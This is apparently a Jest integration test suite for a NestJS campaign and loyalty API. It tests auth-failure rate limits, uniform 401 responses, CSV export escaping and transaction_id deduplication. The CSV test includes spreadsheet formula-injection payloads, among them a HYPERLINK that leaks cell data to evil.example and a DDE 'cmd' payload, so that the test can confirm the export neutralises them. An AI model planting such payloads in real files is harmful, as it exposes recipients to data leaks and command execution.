import { jest } from '@jest/globals';
import type { INestApplication, INestApplicationContext } from '@nestjs/common';
import request, { type Response } from 'supertest';
import { DataSource } from 'typeorm';
import { createTestApp } from './support/app.js';
import { expectError } from './support/errors.js';
import { TEST_ADMIN_TOKEN } from './support/test-env.js';
import { deleteQueueKeys, ownQueuePrefix, startTestWorker, waitFor } from './support/worker.js';
import { createBehavior } from './factories/behavior.factory.js';
import { createCampaign } from './factories/campaign.factory.js';
import { createCustomer } from './factories/customer.factory.js';
import { addApplication, api, basic, createTenant, TestTenant } from './factories/tenant.factory.js';
import { awayFromMinuteTurn } from './support/minute-budget.js';

jest.setTimeout(60_000);

const DAY = 86_400_000;
const RATE_LIMITED = { status: 'error', errors: { code: 'rate_limited', message: expect.any(String) } };
const UNAUTHORIZED = { status: 'error', errors: { code: 'unauthorized', message: expect.any(String) } };

let seq = 0;
const uniq = (prefix: string) => `${prefix}-${++seq}-${Date.now().toString(36)}`;



describe('failed authentication has its own budget, per api key and source address (issue 14, item 5)', () => {
  const REQUESTS = 4;
  const FAILURES = 3;
  const FROM_A = '203.0.113.10';
  const FROM_B = '198.51.100.20';

  /** The source address is the client that the proxy in front (TRUST_PROXY=1) puts in X-Forwarded-For. */
  function call(app: INestApplication, tenant: TestTenant, secret: string, from: string): request.Test {
    return request(app.getHttpServer())
      .get(`/priv/v1/apps/${tenant.apiKey}/management/campaigns`)
      .set('Authorization', basic(tenant.apiKey, secret))
      .set('X-Forwarded-For', from);
  }

  async function statuses(requests: Array<() => request.Test>): Promise<Response[]> {
    const answers: Response[] = [];
    for (const send of requests) answers.push(await send());
    return answers;
  }

  describe('with the verified-key cache', () => {
    let app: INestApplication;
    let tenant: TestTenant;
    let other: TestTenant;

    beforeAll(async () => {
      app = await createTestApp({ rateLimitPerMinute: REQUESTS, authFailuresPerMinute: FAILURES, trustProxy: 1 });
      [tenant, other] = [await createTenant(app), await createTenant(app)];
      await request(app.getHttpServer()).get('/health/ready').expect(200);
    });
    afterAll(() => app.close());

    it('wrong secrets from one source never spend the key’s request budget; over its own budget that source alone gets 429', async () => {
      await awayFromMinuteTurn();
      const first = await call(app, tenant, tenant.apiSecret, FROM_A).expect(200);
      expect(first.headers['x-ratelimit-remaining']).toBe(String(REQUESTS - 1));

      // More guesses than the key's whole request budget: FAILURES refusals, then 429 for that source.
      const guesses = await statuses(Array.from({ length: REQUESTS + 2 }, (_v, i) => () => call(app, tenant, `guess-${i}`, FROM_B)));
      expect(guesses.map((res) => res.status)).toEqual([...Array(FAILURES).fill(401), ...Array(REQUESTS + 2 - FAILURES).fill(429)]);
      for (const res of guesses.slice(0, FAILURES)) expect(res.body).toEqual(UNAUTHORIZED);
      for (const res of guesses.slice(FAILURES)) {
        expect(res.body).toEqual(RATE_LIMITED);
        expect(res.headers['retry-after']).toMatch(/^\d+$/);
      }
      // A refusal says nothing of the key's usage.
      for (const res of guesses) expect(res.headers['x-ratelimit-remaining']).toBeUndefined();

      // The other source still has its whole request budget but the one request it made.
      const second = await call(app, tenant, tenant.apiSecret, FROM_A).expect(200);
      expect(second.headers['x-ratelimit-remaining']).toBe(String(REQUESTS - 2));
      // The limited source itself still gets in with the right secret of the recently verified key (no hashing).
      const fromB = await call(app, tenant, tenant.apiSecret, FROM_B).expect(200);
      expect(fromB.headers['x-ratelimit-remaining']).toBe(String(REQUESTS - 3));
      // ...but its guesses stay refused with 429, without spending anything.
      expect((await call(app, tenant, 'guess-again', FROM_B)).status).toBe(429);
      // Another key from the limited source: the address's budget over every key is spent too (contract §18), so
      // even the right secret of a key not verified recently answers 429 there, without hashing; elsewhere it gets in.
      expect((await call(app, other, 'guess', FROM_B)).status).toBe(429);
      expect((await call(app, other, other.apiSecret, FROM_B)).body).toEqual(RATE_LIMITED);
      await call(app, other, other.apiSecret, FROM_A).expect(200);

      // The key's own request limit still holds for successful requests.
      await call(app, tenant, tenant.apiSecret, FROM_A).expect(200);
      const limited = await call(app, tenant, tenant.apiSecret, FROM_A).expect(429);
      expect(limited.body).toEqual(RATE_LIMITED);
      expect(limited.headers['x-ratelimit-remaining']).toBe('0');
    });

    it('does not let one source spend another’s failure budget for the key', async () => {
      await awayFromMinuteTurn();
      const fresh = await createTenant(app);
      const fromC = await statuses(Array.from({ length: FAILURES + 1 }, (_v, i) => () => call(app, fresh, `guess-${i}`, '192.0.2.30')));
      expect(fromC.map((res) => res.status)).toEqual([...Array(FAILURES).fill(401), 429]);
      // The key was never verified (nothing cached): D is judged by its own failures alone.
      const fromD = await statuses(Array.from({ length: FAILURES - 1 }, (_v, i) => () => call(app, fresh, `guess-${i}`, '192.0.2.40')));
      expect(fromD.map((res) => res.status)).toEqual(Array(FAILURES - 1).fill(401));
      await call(app, fresh, fresh.apiSecret, '192.0.2.40').expect(200);
      expect((await call(app, fresh, fresh.apiSecret, '192.0.2.30')).status).toBe(200); // now cached: C's right secret too
    });
  });

  describe('without the cache (API_KEY_CACHE_SECONDS=0)', () => {
    let app: INestApplication;
    let tenant: TestTenant;

    beforeAll(async () => {
      app = await createTestApp({ rateLimitPerMinute: REQUESTS, authFailuresPerMinute: FAILURES, trustProxy: 1, apiKeyCacheSeconds: 0 });
      tenant = await createTenant(app);
      await request(app.getHttpServer()).get('/health/ready').expect(200);
    });
    afterAll(() => app.close());

    it('a source over its failure budget gets 429 even with the right secret; other sources get in', async () => {
      await awayFromMinuteTurn();
      // An address of its own: the budget of an address over every key is shared, through Redis, with the apps of
      // the describe above, which guessed from FROM_B in this same minute.
      const FROM_C = '192.0.2.80';
      const guesses = await statuses(Array.from({ length: FAILURES }, (_v, i) => () => call(app, tenant, `guess-${i}`, FROM_C)));
      expect(guesses.map((res) => res.status)).toEqual(Array(FAILURES).fill(401));
      expect((await call(app, tenant, tenant.apiSecret, FROM_C)).body).toEqual(RATE_LIMITED);
      const fromA = await call(app, tenant, tenant.apiSecret, FROM_A).expect(200);
      expect(fromA.headers['x-ratelimit-remaining']).toBe(String(REQUESTS - 1));
    });
  });
});

describe('unknown and known keys are refused alike (issue 14, item 5)', () => {
  let app: INestApplication;
  let tenant: TestTenant;

  beforeAll(async () => {
    app = await createTestApp();
    tenant = await createTenant(app);
  });
  afterAll(() => app.close());

  it('answers an unknown key, a deactivated key and a wrong secret with the same 401, and the right secret still works', async () => {
    const unknown = '0123456789abcdef0123456789abcdef';
    const deactivated = await createTenant(app);
    await request(app.getHttpServer()).delete(`/admin/v1/api_keys/${deactivated.apiKey}`).set('Authorization', `Bearer ${TEST_ADMIN_TOKEN}`).expect(200);
    await api(app, tenant).get('/management/campaigns').expect(200); // cached from here on
    const attempt = (key: string, secret: string) => request(app.getHttpServer()).get(`/priv/v1/apps/${key}/management/campaigns`).set('Authorization', basic(key, secret));
    const answers = [await attempt(unknown, 'a-secret'), await attempt(deactivated.apiKey, deactivated.apiSecret), await attempt(tenant.apiKey, 'wrong-secret')];
    expect(answers.map((res) => ({ status: res.status, body: res.body }))).toEqual(Array(3).fill({ status: 401, body: UNAUTHORIZED }));
    expect(new Set(answers.map((res) => res.text)).size).toBe(1);
    await api(app, tenant).get('/management/campaigns').expect(200);
  });
});

describe('audience CSVs neutralise formula characters (issue 14, item 5)', () => {
  let app: INestApplication;
  let worker: INestApplicationContext;
  let tenant: TestTenant;
  const prefix = ownQueuePrefix('security-items');

  // The run's storage directory, as every other worker of the run has it: audience sweepers look at the whole
  // audience_jobs table, so another spec's worker may run this spec's job (and this one another's), and the CSV must
  // be where the downloading API looks for it.
  beforeAll(async () => {
    app = await createTestApp({ queuePrefix: prefix });
    worker = await startTestWorker({ queuePrefix: prefix, sweepAfterSeconds: 1, workerQueues: ['audience-jobs'] });
    tenant = await createTenant(app);
  });
  afterAll(async () => {
    await worker?.close();
    await app?.close();
    await deleteQueueKeys(prefix);
  });

  it('writes a value starting with = + - @ tab or CR (or a quote) with one leading quote, quoted where CSV needs it', async () => {
    const run = Date.now().toString(36);
    const externalIds = [
      `=HYPERLINK("http://evil.example/?leak="&A1,"open")${run}`,
      `+33123456789-${run}`,
      `-2+3+cmd|' /C calc'!A0-${run}`,
      `@SUM(1+1)-${run}`,
      `\tcmd-${run}`,
      `\r=cmd-${run}`,
      `'quoted-${run}`,
      `plain-${run}`,
      `a=b-${run}`,
    ];
    const users = new Map<string, string>();
    for (const externalId of externalIds) users.set(externalId, (await createCustomer(app, tenant, { external_id: externalId })).id);

    const window = { starts_at: new Date(Date.now() - DAY).toISOString(), ends_at: new Date(Date.now() + 30 * DAY).toISOString() };
    const campaign = await createCampaign(app, tenant);
    const lineItem = await api(app, tenant).post(`/management/campaigns/${campaign.id}/line_items`).send({ line_item: { name: 'Main', status: 'live', ...window } }).expect(201);
    const group = await api(app, tenant)
      .post(`/management/line_items/${lineItem.body.line_items[0].id}/creative_groups`)
      .send({ creative_group: { name: 'All', status: 'live', ...window } })
      .expect(201);
    const [application] = await app.get(DataSource).query(`SELECT id FROM applications WHERE organization_id = $1 ORDER BY id LIMIT 1`, [tenant.organizationId]);
    const creative = await api(app, tenant)
      .post(`/management/creative_groups/${group.body.creative_groups[0].id}/creatives`)
      .send({
        creative: {
          name: 'File',
          status: 'live',
          ad_type: 'issue_audience_csv',
          creative_type: 'issue-audience-csv',
          application_id: application.id,
          issue_audience_csv: { delivery_method: 'scheduled', scheduled_delivery_date: new Date(Date.now() + 2_000).toISOString() },
        },
      })
      .expect(201);
    const creativeId = creative.body.creatives[0].id as number;
    let job: { id: number; status: string } | undefined;
    await waitFor(
      async () => {
        [job] = (await api(app, tenant).get(`/management/creatives/${creativeId}/audience_jobs`).expect(200)).body.audience_jobs;
        return job !== undefined && !['scheduled', 'running'].includes(job.status);
      },
      30_000,
      'the audience job to settle',
    );
    expect(job!.status).toBe('completed');

    const res = await api(app, tenant).get(`/management/creatives/${creativeId}/audience_jobs/${job!.id}/download`).expect(200);
    const id = (externalId: string) => users.get(externalId)!;
    const expected = [
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")${run}",${id(externalIds[0])}`,
      `'+33123456789-${run},${id(externalIds[1])}`,
      `'-2+3+cmd|' /C calc'!A0-${run},${id(externalIds[2])}`,
      `'@SUM(1+1)-${run},${id(externalIds[3])}`,
      `'\tcmd-${run},${id(externalIds[4])}`,
      `"'\r=cmd-${run}",${id(externalIds[5])}`,
      `''quoted-${run},${id(externalIds[6])}`,
      `plain-${run},${id(externalIds[7])}`,
      `a=b-${run},${id(externalIds[8])}`,
    ];
    expect(res.text.startsWith('external_id,user_id\n')).toBe(true);
    const body = res.text.slice('external_id,user_id\n'.length);
    expect(body.endsWith('\n')).toBe(true);
    // Rows are in customer id order; each expected line is in the file whole, and the file holds nothing else.
    expect([...expected].sort()).toEqual(expected.map((line) => (body.includes(`${line}\n`) ? line : `missing: ${line}`)).sort());
    expect(body.length).toBe(expected.reduce((sum, line) => sum + line.length + 1, 0));
    // No cell of the file starts with a formula character.
    for (const line of body.split('\n').filter(Boolean)) expect(line).not.toMatch(/^"?[=+\-@\t]/);
  });
});

describe('perform accepts a transaction_id as V1 does (issue 14, item 5)', () => {
  let app: INestApplication;
  let db: DataSource;

  beforeAll(async () => {
    app = await createTestApp();
    db = app.get(DataSource);
  });
  afterAll(() => app.close());

  function perform(tenant: TestTenant, path: string, body: unknown): request.Test {
    return request(app.getHttpServer()).post(`/priv/v2/apps/${tenant.apiKey}${path}`).auth(tenant.apiKey, tenant.apiSecret).send(body as object);
  }

  function duplicate(res: Response, id: string): void {
    expectError(res, 409, 'duplicate_transaction');
    expect(res.body.errors.message).toBe(`transaction_id ${id} has already been processed`);
  }

  async function stored(customerId: string) {
    const [row] = await db.query(
      `SELECT (SELECT count(*)::int FROM events WHERE customer_id = $1) AS events,
              (SELECT count(*)::int FROM points_ledger WHERE customer_id = $1) AS ledger,
              (SELECT available_points FROM customers WHERE id = $1)::int AS points`,
      [customerId],
    );
    return row as { events: number; ledger: number; points: number };
  }

  async function world() {
    const tenant = await createTenant(app);
    const campaign = await createCampaign(app, tenant);
    await createBehavior(app, tenant, campaign.id, { name: uniq('Visits'), event: 'visit', event_count: 3, points: 25 });
    return { tenant, campaign };
  }

  it('stores the transaction_id on the perform; a repeat under the same api key is 409 on any route and for any customer, and stores nothing', async () => {
    const { tenant, campaign } = await world();
    const [first, second] = [await createCustomer(app, tenant), await createCustomer(app, tenant)];
    const id = uniq('perform-tx');
    const ok = await perform(tenant, `/users/${first.id}/campaigns/${campaign.id}/perform`, { domain: 'complete_campaign', transaction_id: id });
    expect(ok.status).toBe(200);
    expect(await db.query(`SELECT source, transaction_id FROM events WHERE customer_id = $1`, [first.id])).toEqual([{ source: 'perform', transaction_id: id }]);
    const before = await stored(first.id);
    expect(before).toEqual({ events: 1, ledger: 1, points: 25 });

    // The same customer (whose campaign is completed: 409, not 422), another customer, other routes.
    duplicate(await perform(tenant, `/users/${first.id}/campaigns/${campaign.id}/perform`, { domain: 'complete_campaign', transaction_id: id }), id);
    duplicate(await perform(tenant, `/users/${second.id}/campaigns/${campaign.id}/perform`, { domain: 'complete_campaign', transaction_id: id }), id);
    duplicate(await perform(tenant, `/external/users/${second.external_id}/external/campaigns/${campaign.permalink}/perform`, { domain: 'complete_campaign', transaction_id: id }), id);
    expect(await stored(first.id)).toEqual(before);
    expect(await stored(second.id)).toEqual({ events: 0, ledger: 0, points: 0 });

    // Without a transaction_id the second customer's perform goes through.
    await perform(tenant, `/users/${second.id}/campaigns/${campaign.id}/perform`, { domain: 'complete_campaign' }).expect(200);
    expect(await stored(second.id)).toEqual({ events: 1, ledger: 1, points: 25 });
  });

  it('shares the api key’s transaction ids with V1 events, both ways', async () => {
    const { tenant, campaign } = await world();
    const [customer, other] = [await createCustomer(app, tenant), await createCustomer(app, tenant)];
    const usedByEvent = uniq('event-tx');
    await api(app, tenant).post(`/users/${customer.id}/events`).send({ events: { visit: 1 }, transaction_id: usedByEvent }).expect(200);
    duplicate(await perform(tenant, `/users/${other.id}/campaigns/${campaign.id}/perform`, { domain: 'complete_campaign', transaction_id: usedByEvent }), usedByEvent);
    expect(await stored(other.id)).toEqual({ events: 0, ledger: 0, points: 0 });

    const usedByPerform = uniq('perform-tx');
    await perform(tenant, `/users/${other.id}/campaigns/${campaign.id}/perform`, { domain: 'complete_campaign', transaction_id: usedByPerform }).expect(200);
    duplicate(await api(app, tenant).post(`/users/${customer.id}/events`).send({ events: { visit: 1 }, transaction_id: usedByPerform }), usedByPerform);
  });

  it('another api key of the organization has transaction ids of its own', async () => {
    const { tenant, campaign } = await world();
    const second = await addApplication(app, tenant);
    const [a, b] = [await createCustomer(app, tenant), await createCustomer(app, tenant)];
    const id = uniq('perform-tx');
    await perform(tenant, `/users/${a.id}/campaigns/${campaign.id}/perform`, { domain: 'complete_campaign', transaction_id: id }).expect(200);
    await perform(second, `/users/${b.id}/campaigns/${campaign.id}/perform`, { domain: 'complete_campaign', transaction_id: id }).expect(200);
    expect(await db.query(`SELECT count(*)::int AS n FROM events WHERE transaction_id = $1`, [id])).toEqual([{ n: 2 }]);
  });

  it('a perform that failed stored nothing: its transaction_id is still free', async () => {
    const { tenant, campaign } = await world();
    const paused = await createCampaign(app, tenant, { status: 'paused' });
    const customer = await createCustomer(app, tenant);
    const id = uniq('perform-tx');
    expectError(await perform(tenant, `/users/${customer.id}/campaigns/${paused.id}/perform`, { domain: 'complete_campaign', transaction_id: id }), 422, 'failed_to_perform');
    await perform(tenant, `/users/${customer.id}/campaigns/${campaign.id}/perform`, { domain: 'complete_campaign', transaction_id: id }).expect(200);
  });

  it.each<[string, unknown]>([
    ['an empty string', ''],
    ['256 characters', 'x'.repeat(256)],
    ['a number', 123],
    ['null', null],
    ['an object', { id: 'x' }],
  ])('answers 400 validation naming transaction_id for %s, and stores nothing', async (_label, value) => {
    const { tenant, campaign } = await world();
    const customer = await createCustomer(app, tenant);
    const res = await perform(tenant, `/users/${customer.id}/campaigns/${campaign.id}/perform`, { domain: 'complete_campaign', transaction_id: value });
    expect(expectError(res, 400, 'validation')).toContain('transaction_id');
    expect(await stored(customer.id)).toEqual({ events: 0, ledger: 0, points: 0 });
  });

  it('takes 255 characters, stored whole with the perform and its points', async () => {
    const { tenant, campaign } = await world();
    const customer = await createCustomer(app, tenant);
    const id = `${uniq('t')}-`.padEnd(255, 'x');
    const res = await perform(tenant, `/users/${customer.id}/campaigns/${campaign.id}/perform`, { domain: 'complete_campaign', transaction_id: id });
    expect({ status: res.status, body: res.body }).toEqual({
      status: 200,
      body: {
        status: 'ok',
        campaign: {
          campaign_id: campaign.id,
          campaign_permalink: campaign.permalink,
          name: campaign.name,
          status: 'live',
          starts_at: campaign.starts_at,
          ends_at: campaign.ends_at,
          qualified: true,
        },
      },
    });
    // The customer's timeline shows the perform under the whole id, with its points; the same id again is a duplicate.
    const { events } = (await api(app, tenant).get(`/users/${customer.id}/timeline`).expect(200)).body;
    expect(events).toEqual([expect.objectContaining({ source: 'perform', transaction_id: id, points_earned: 25 })]);
    duplicate(await perform(tenant, `/users/${customer.id}/campaigns/${campaign.id}/perform`, { domain: 'complete_campaign', transaction_id: id }), id);
    expect(await db.query(`SELECT source, transaction_id FROM events WHERE customer_id = $1`, [customer.id])).toEqual([{ source: 'perform', transaction_id: id }]);
    expect(await stored(customer.id)).toEqual({ events: 1, ledger: 1, points: 25 });
  });

  it('documents transaction_id on the perform body in Swagger, with a description and an example', async () => {
    const doc = (await request(app.getHttpServer()).get('/docs-json').expect(200)).body;
    const property = doc.components.schemas.PerformBody.properties.transaction_id;
    expect(property).toEqual(expect.objectContaining({ type: 'string', example: expect.any(String), description: expect.stringContaining('duplicate_transaction') }));
    expect(doc.components.schemas.PerformBody.required ?? []).not.toContain('transaction_id');
  });
});
